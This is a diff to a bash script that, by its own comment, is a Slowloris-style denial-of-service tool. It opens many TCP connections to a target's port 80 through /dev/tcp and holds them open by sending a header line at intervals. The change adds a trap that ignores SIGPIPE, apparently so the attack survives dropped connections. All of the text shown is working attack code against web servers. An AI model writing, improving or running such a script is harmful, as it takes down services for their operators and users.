@@ -1,4 +1,5 @@
 # Opens CONNECTIONS requests and never ends them: one header line each EVERY seconds.
+trap "" PIPE
 declare -a open
 for (( i = 0; i < CONNECTIONS; i++ )); do
     exec {fd}<>"/dev/tcp/$TARGET/80" && open+=("$fd")
